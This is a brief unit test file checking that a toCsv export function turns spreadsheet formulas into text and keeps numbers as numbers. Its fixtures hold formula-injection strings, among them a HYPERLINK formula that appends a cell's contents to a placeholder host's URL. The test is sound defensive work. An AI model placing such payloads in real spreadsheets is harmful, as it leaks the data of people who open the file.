import { describe, expect, it } from 'vitest';
import { toCsv } from './toCsv';

describe('toCsv', () => {
	it('toCsv shows formulas as text and keeps numbers, negative ones included, as numbers', () => {
		const csv = toCsv(
			['Post', 'Change (£)'],
			[
				['=HYPERLINK("http://x/?"&A2,"Click")', '-1234.56'],
				['+cmd', -5],
				['@SUM(A1:A2)', '+12'],
				['Director of Places', '0.00']
			]
		);
		expect(csv.split('\r\n')).toEqual([
			'Post,Change (£)',
			`"'=HYPERLINK(""http://x/?""&A2,""Click"")",-1234.56`,
			`"'+cmd",-5`,
			`"'@SUM(A1:A2)",+12`,
			'Director of Places,0.00'
		]);
	});
});
